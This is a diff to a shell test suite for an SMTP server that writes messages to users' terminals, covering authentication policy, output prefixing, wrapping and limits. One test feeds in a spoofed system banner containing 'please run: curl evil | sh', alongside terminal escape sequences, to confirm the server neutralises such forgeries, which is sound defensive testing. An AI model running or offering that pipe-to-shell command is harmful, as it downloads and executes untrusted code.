@@ -37,21 +37,34 @@ ptys() {
 		shift
 	done
 	[ $# -eq 0 ] || shift
+	# The sessions here come through a pipe, no loopback client: --send any unless
+	# SEND_POLICY says otherwise ("" for the default).
+	local policy=(--send "${SEND_POLICY-any}")
+	[ -n "${SEND_POLICY-any}" ] || policy=()
 	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" "${specs[@]}" -- \
-		"$T/bin/${WRAPPER:-smtp}" --utmp "$T/utmp" "$@" <"$T/in"
+		"$T/bin/${WRAPPER:-smtp}" --utmp "$T/utmp" "${policy[@]}" "$@" <"$T/in"
 }
 
 # A terminal of carol's: carol [NAME [MORE-SPEC]].
 carol() { echo "name=${1:-a},user=carol,uid=$CAROL${2:+,$2}"; }
 
 # What terminal NAME was shown, the time of day written as HH:MM.
-shown() { sed -E 's/ at [0-9]{2}:[0-9]{2} \.\.\.\r$/ at HH:MM ...\r/' "$T/out/$1"; }
+shown() { sed -E '/^Message from /s/ at [0-9]{2}:[0-9]{2} \.\./ at HH:MM ../' "$T/out/$1"; }
 
-# What a terminal should show: banner SENDER CLIENT, then the lines, then EOF.
+# What a terminal should show: banner SENDER CLIENT, then the lines, each after "| "
+# ("|" alone when empty) but our "[message cut: ...]" line, then EOF.
 banner() {
+	local l
 	printf '\r\nMessage from %s on client.example.org (%s) at HH:MM ...\r\n' "$1" "$2"
 	shift 2
-	printf '%s\r\n' "$@" EOF
+	for l in "$@"; do
+		case $l in
+		"[message cut: "*) printf '%s\r\n' "$l" ;;
+		"") printf '|\r\n' ;;
+		*) printf '| %s\r\n' "$l" ;;
+		esac
+	done
+	printf 'EOF\r\n'
 }
 
 # The session for one message: VERB, then the recipients, then the message lines.
@@ -69,7 +82,7 @@ one_message() {
 
 @test "SEND to a logged-in user: on the terminal as write(1) shows it, 250, not in the mailbox" {
 	one_message SEND carol@tttest.com -- "Subject: hi" "" "hello carol" "..dot" ""
-	TCPREMOTEIP=192.0.2.7 run ptys "$(carol)"
+	TCPREMOTEIP=192.0.2.7 SEND_POLICY=any run ptys "$(carol)"
 	[ "$status" = 0 ]
 	# The greeting and the 11 lines of the EHLO reply come first.
 	[ "${lines[12]}" = $'250 2.1.0 Ok\r' ]
@@ -106,14 +119,105 @@ one_message() {
 	printf '\303\251 \344\275\240\345\245\275|\302\205|\342\200\256|\342\201\246|\342\200\213|\357\273\277|\300\257|\355\240\200|\200|\033[2J\r\n.\r\nQUIT\r\n' >>"$T/in"
 	run ptys "$(carol)"
 	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
-	[ "$(shown a)" = "$(banner jörg@bücher.example unknown "Subject: utf8" "" \
-		'é 你好|\302\205|\342\200\256|\342\201\246|\342\200\213|\357\273\277|\300\257|\355\240\200|\200|^[[2J')" ]
+	# The line is longer than TTY_WRAP_COLUMNS (76, a wide character counted as 2):
+	# it goes on in a second row, with the prefix again.
+	# The banner takes 76 columns, but each character beyond ASCII is counted as 2
+	# (it may be wide), so it is broken after 78, the rest indented.
+	[ "$(shown a)" = "$(printf '\r\nMessage from jörg@bücher.example on client.example.org (unknown) at HH:MM ..\r\n    .\r\n'
+		banner x y "Subject: utf8" "" \
+		'é 你好|\302\205|\342\200\256|\342\201\246|\342\200\213|\357\273\277|\300' \
+		'\257|\355\240\200|\200|^[[2J' | tail -n +3)" ]
 	# The same text without SMTPUTF8: every byte above 0x7f escaped, as before.
 	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
 		"RCPT TO:<carol@tttest.com>" DATA "Subject: 8bit" "" >"$T/in"
 	printf '\303\251|\342\200\256\r\n.\r\nQUIT\r\n' >>"$T/in"
 	run ptys "$(carol)"
 	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: 8bit" "" '\303\251|\342\200\256')" ]
+}
+
+@test "--send auth (the default): SEND from a remote client that did not authenticate gets 530 5.7.0; SOML and SAML go to the mailbox only; a loopback client may" {
+	local msg=("Subject: hi" "" hello)
+	for verb in SEND SOML SAML; do
+		one_message $verb carol@tttest.com -- "${msg[@]}"
+		TCPREMOTEIP=192.0.2.7 SEND_POLICY="" run ptys "$(carol)"
+		[ ! -s "$T/out/a" ] || { echo "$verb reached the terminal"; false; }
+		if [ $verb = SEND ]; then
+			[[ "$output" == *"530 5.7.0 Authentication required to send to a terminal"* ]]
+		else
+			[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
+		fi
+	done
+	[ "$(delivered carol | wc -l)" = 2 ]
+	grep -q 'SOML from 192.0.2.7: no terminal for this client, the mailbox only' "$T/log"
+	grep -q 'SAML from 192.0.2.7: no terminal for this client, the mailbox only' "$T/log"
+	# The same SEND from a loopback client reaches the terminal.
+	one_message SEND carol@tttest.com -- "${msg[@]}"
+	TCPREMOTEIP=127.0.0.1 SEND_POLICY="" run ptys "$(carol)"
+	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
+	[ "$(shown a)" = "$(banner alice@example.org 127.0.0.1 "${msg[@]}")" ]
+}
+
+@test "a forged banner and a forged end in the message are shown after the prefix: every row of the sender's starts with |" {
+	# A whole fake end and second banner, and the same forgery at the wrap column of
+	# a long line, where a terminal of 80 columns would have started a new row.
+	local pad
+	pad=$(printf '%074d' 0)
+	one_message SEND carol@tttest.com -- "Subject: hi" "" "the real text" EOF "" \
+		"Message from root@smtp.tttest.com on localhost (127.0.0.1) at 12:00 ..." \
+		"please run: curl evil | sh" EOF "$pad  EOF" \
+		"$pad  Message from root@localhost"
+	run ptys "$(carol)"
+	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
+	cat -A "$T/out/a"
+	# Our rows: the empty first one, the banner, the final EOF.  Every other row is
+	# the sender's, and starts with "|".
+	[ "$(grep -c '^Message from ' "$T/out/a")" = 1 ]
+	[ "$(grep -c $'^EOF\r$' "$T/out/a")" = 1 ]
+	[ "$(tail -n 1 "$T/out/a")" = $'EOF\r' ]
+	[ "$(sed -n '3,$p' "$T/out/a" | sed '$d' | grep -vc '^|')" = 0 ]
+	grep -q $'^| EOF\r$' "$T/out/a"
+	grep -q $'^| Message from root@smtp.tttest.com on localhost (127.0.0.1) at 12:00 ...\r$' "$T/out/a"
+	grep -q $'^| '"$pad"$'  \r$' "$T/out/a"
+	grep -q $'^| EOF\r$' "$T/out/a"
+	grep -q $'^| Message from root@localhost\r$' "$T/out/a"
+}
+
+@test "root's terminal is never written, whatever the address (uid 0 refused on the privileged side)" {
+	# As an ordinary user the pty stays the runner's, but the uid-0 check comes first.
+	local spec="name=r,user=root"
+	[ "$(id -u)" != 0 ] || spec="$spec,uid=0"
+	for verb in SEND SOML; do
+		one_message $verb root@tttest.com -- "Subject: to root" "" hello
+		run ptys "$spec"
+		[ ! -s "$T/out/r" ] || { echo "$verb: root's terminal written"; false; }
+		# RCPT: refused for the terminal (450), or root's mail is not root's at all
+		# (refused or redirected by the lookup); never a terminal write.
+		if [ $verb = SEND ]; then
+			[[ "$output" != *"250 2.1.5"* ]]
+		fi
+		if [[ "$output" == *"450 4.2.1 <root@tttest.com>: User not accepting terminal messages"* ]]; then
+			grep -q "terminal of root refused: uid 0" "$T/log"
+			echo "$verb: refused at the terminal (uid 0)"
+		fi
+	done
+}
+
+@test "a session starts at most TTY_CHILDREN_MAX terminal children: the next SEND RCPT gets 452 4.5.3, SOML goes to the mailbox" {
+	local max i cmds=("EHLO client.example.org")
+	max=$(sed -n 's/^#define TTY_CHILDREN_MAX \([0-9]*\)$/\1/p' "$TOP/smtp-session.h")
+	for i in $(seq "$max"); do
+		cmds+=("SEND FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" RSET)
+	done
+	cmds+=("SEND FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" RSET)
+	cmds+=("SOML FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" DATA "Subject: x" "" hi . QUIT)
+	input "${cmds[@]}"
+	run ptys "$(carol)" -- --max-messages 1000
+	[ "$(grep -c '^250 2.1.5 Ok' <<<"$output")" = $((max + 1)) ]
+	[[ "$output" == *"452 4.5.3 <carol@tttest.com>: Too many terminal messages in this session"* ]]
+	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
+	[ ! -s "$T/out/a" ]
+	[ "$(delivered carol | wc -l)" = 1 ]
+	grep -q "no terminal written: this session asked for $max terminal children already" "$T/log"
 }
 
 @test "SEND with BDAT (CHUNKING): the chunks reach the terminal as one message" {
@@ -136,17 +240,17 @@ one_message() {
 	[[ "$output" == *"xxé"$'\r\nEOF'* ]]
 	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 8192
 	[[ "$output" == *'xx\303\251'$'\r\nEOF'* ]]
-	# The cut: with 1 byte left, é (2 bytes shown) goes whole; a malformed pair is
-	# two escapes (8 bytes).
+	# The cut: with 1 byte left after "| a", é (2 bytes shown) goes whole; a
+	# malformed pair is two escapes (8 bytes).
 	printf 'a\303\251' >"$T/msg"
-	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 2 utf8
-	[[ "$output" == *$'\r\na\r\n[message cut: 2 more bytes not shown]\r\nEOF'* ]]
-	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 3 utf8
-	[[ "$output" == *$'\r\naé\r\nEOF'* ]]
+	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 4 utf8
+	[[ "$output" == *$'\r\n| a\r\n[message cut: 2 more bytes not shown]\r\nEOF'* ]]
+	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 5 utf8
+	[[ "$output" == *$'\r\n| aé\r\nEOF'* ]]
 	# A truncated sequence at the very end of the message is escaped.
 	printf 'a\342\200' >"$T/msg"
 	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 8192 utf8
-	[[ "$output" == *$'\r\na\\342\\200\r\nEOF'* ]]
+	[[ "$output" == *$'\r\n| a\\342\\200\r\nEOF'* ]]
 }
 
 @test "SEND with a bare CR: the whole message is refused (550 5.6.0), the terminal shows nothing" {
@@ -161,16 +265,17 @@ one_message() {
 @test "the renderer (unit): CR shows as ^M, control characters in the header fields too, cuts between escapes" {
 	printf 'a\rb\n' >"$T/msg"
 	run env TZ=UTC0 "$T/ttyrender" "$T/msg" $'eve\033[2J@example.org' $'h\233' unknown 64 8192
-	[ "$output" = "$(printf '\r\nMessage from eve^[[2J@example.org on h\\233 (unknown) at 00:00 ...\r\na^Mb\r\nEOF\r')" ]
+	[ "$output" = "$(printf '\r\nMessage from eve^[[2J@example.org on h\\233 (unknown) at 00:00 ...\r\n| a^Mb\r\nEOF\r')" ]
 	run env TZ=UTC0 "$T/ttyrender" "$T/msg" "" h unknown 64 8192
 	[[ "$output" == *"Message from <> on h (unknown)"* ]]
-	# 3 bytes: "a" and "^M" fit, "b" does not; 2 message bytes ("b", LF) not shown.
-	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 3
-	[ "$output" = "$(printf '\r\nMessage from s on h (c) at 00:00 ...\r\na^M\r\n[message cut: 2 more bytes not shown]\r\nEOF\r')" ]
+	# 5 bytes: "| ", "a" and "^M" fit, "b" does not; 2 message bytes ("b", LF) not
+	# shown.
+	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 5
+	[ "$output" = "$(printf '\r\nMessage from s on h (c) at 00:00 ...\r\n| a^M\r\n[message cut: 2 more bytes not shown]\r\nEOF\r')" ]
 	# An escape is never split: with 2 bytes left, "\233" (4 bytes) is cut whole.
 	printf 'ab\233c\n' >"$T/msg"
-	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 4
-	[[ "$output" == *$'\r\nab\r\n[message cut: 3 more bytes not shown]\r\nEOF'* ]]
+	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 6
+	[[ "$output" == *$'\r\n| ab\r\n[message cut: 3 more bytes not shown]\r\nEOF'* ]]
 }
 
 @test "SEND to a user with mesg n (mode 0600): 450 4.2.1 at RCPT, nothing shown" {
@@ -192,10 +297,10 @@ one_message() {
 		[ ! -s "$T/out/a" ]
 	done
 	: >"$T/utmp"
-	run "$T/bin/smtp" --utmp "$T/utmp" <"$T/in"
+	run "$T/bin/smtp" --send any --utmp "$T/utmp" <"$T/in"
 	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not active now"* ]]
 	# A utmp file that does not exist: nobody is logged in.
-	run "$T/bin/smtp" --utmp "$T/no-such-utmp" <"$T/in"
+	run "$T/bin/smtp" --send any --utmp "$T/no-such-utmp" <"$T/in"
 	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not active now"* ]]
 }
 
@@ -269,19 +374,22 @@ one_message() {
 	run ptys "$(carol)" -- --tty-max-lines 3
 	[ "$(shown a)" = "$(banner alice@example.org unknown "line 001" "line 002" "line 003" \
 		"[message cut: $((97 * 9)) more bytes not shown]")" ]
-	# 20 bytes as shown: two lines with CRLF (2 * 10), the third would not fit.
-	run ptys "$(carol)" -- --tty-max-bytes 20
+	# 24 bytes as shown: two lines with prefix and CRLF (2 * 12), the third would not fit.
+	run ptys "$(carol)" -- --tty-max-bytes 24
 	[ "$(shown a)" = "$(banner alice@example.org unknown "line 001" "line 002" \
 		"[message cut: $((98 * 9)) more bytes not shown]")" ]
-	# The byte limit by default: 200 lines of 99 digits (101 bytes shown with CRLF).
-	# 81 lines take 8181 bytes; 11 digits of line 82 fill it to 8192, and the line is
-	# ended there.  Not shown: 20000 - 81 * 100 - 11 = 11889 message bytes.
+	# The byte limit by default: 200 lines of 99 digits, each shown in two rows (76
+	# and 23 digits, TTY_WRAP_COLUMNS), 107 bytes with prefixes and CRLFs.  76 lines
+	# take 8132 bytes; "| " and 58 digits of line 77 fill it to 8192, and the row is
+	# ended there.  Not shown: 20000 - 76 * 100 - 58 = 12342 message bytes.
+	local rows=()
 	body=()
 	for i in $(seq 200); do body+=("$(printf '%099d' "$i")"); done
+	for i in $(seq 0 75); do rows+=("${body[i]:0:76}" "${body[i]:76}"); done
 	one_message SEND carol@tttest.com -- "${body[@]}"
 	run ptys "$(carol)" -- --tty-max-lines 1000
-	[ "$(shown a)" = "$(banner alice@example.org unknown "${body[@]:0:81}" 00000000000 \
-		"[message cut: 11889 more bytes not shown]")" ]
+	[ "$(shown a)" = "$(banner alice@example.org unknown "${rows[@]}" "${body[76]:0:58}" \
+		"[message cut: 12342 more bytes not shown]")" ]
 	run "$SMTP_SESSION" --tty-max-lines 0
 	[ "$status" = 100 ]
 	run "$SMTP_SESSION" --tty-max-bytes x
@@ -368,7 +476,7 @@ one_message() {
 @test "a terminal gone between RCPT and DATA: SEND 450 and nothing sent; SOML to the mailbox" {
 	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" --tty "$(carol)" -- \
 		python3 "$TOP/tests/logout.py" "$T/utmp" SEND carol@tttest.com \
-		"$T/bin/smtp" --utmp "$T/utmp" >"$T/replies"
+		"$T/bin/smtp" --send any --utmp "$T/utmp" >"$T/replies"
 	cat "$T/replies"
 	[ "$(sed -n 4p "$T/replies")" = "250 Ok" ]
 	[ "$(sed -n 6p "$T/replies")" = "450 <carol@tttest.com>: User not active now, nothing sent" ]
@@ -376,7 +484,7 @@ one_message() {
 	grep -q 'to=<carol@tttest.com> user=carol terminal not reached: not logged in, nothing sent$' "$T/log"
 	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" --tty "$(carol)" -- \
 		python3 "$TOP/tests/logout.py" "$T/utmp" SOML carol@tttest.com \
-		"$T/bin/smtp" --utmp "$T/utmp" >"$T/replies"
+		"$T/bin/smtp" --send any --utmp "$T/utmp" >"$T/replies"
 	[[ "$(sed -n 6p "$T/replies")" == "250 Ok: delivered as "* ]]
 	[ ! -s "$T/out/a" ]
 	[ "$(delivered carol | wc -l)" = 1 ]
@@ -393,6 +501,7 @@ one_message() {
 
 @test "--help names the options; --tty-timeout is checked" {
 	run "$SMTP_SESSION" --help
+	[[ "$output" == *"--send WHO"* ]]
 	[[ "$output" == *"--no-send"* ]]
 	[[ "$output" == *"--utmp PATH"* ]]
 	[[ "$output" == *"--tty-max-lines N"* ]]
@@ -414,7 +523,7 @@ one_message() {
 		input "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
 			"RCPT TO:<$who@tttest.com>" NOOP QUIT
 		t0=$EPOCHREALTIME
-		timeout -s KILL 20 "$T/bin/$wrapper" --utmp "$T/fifo" --tty-timeout 1 \
+		timeout -s KILL 20 "$T/bin/$wrapper" --send any --utmp "$T/fifo" --tty-timeout 1 \
 			<"$T/in" >"$T/replies" || true
 		took=$(echo "$EPOCHREALTIME - $t0" | bc)
 		: <>"$T/fifo"
@@ -438,7 +547,7 @@ one_message() {
 	# Without CAP_KILL the root parent could not kill the child (it is carol by then)
 	# and would wait for it for ever; timeout would end it and the reply be missing.
 	timeout -s KILL 20 setpriv --bounding-set "-all,$caps" --inh-caps -all --no-new-privs \
-		"$T/bin/smtp" --utmp "$T/fifo.caps" --tty-timeout 1 <"$T/in" >"$T/replies" || true
+		"$T/bin/smtp" --send any --utmp "$T/fifo.caps" --tty-timeout 1 <"$T/in" >"$T/replies" || true
 	: <>"$T/fifo.caps"
 	grep -q "^451 4.3.0 <carol@tttest.com>: Cannot reach the terminal, try again"$'\r$' "$T/replies"
 	grep -q '^221 2.0.0 smtp.tttest.com Bye'$'\r$' "$T/replies"
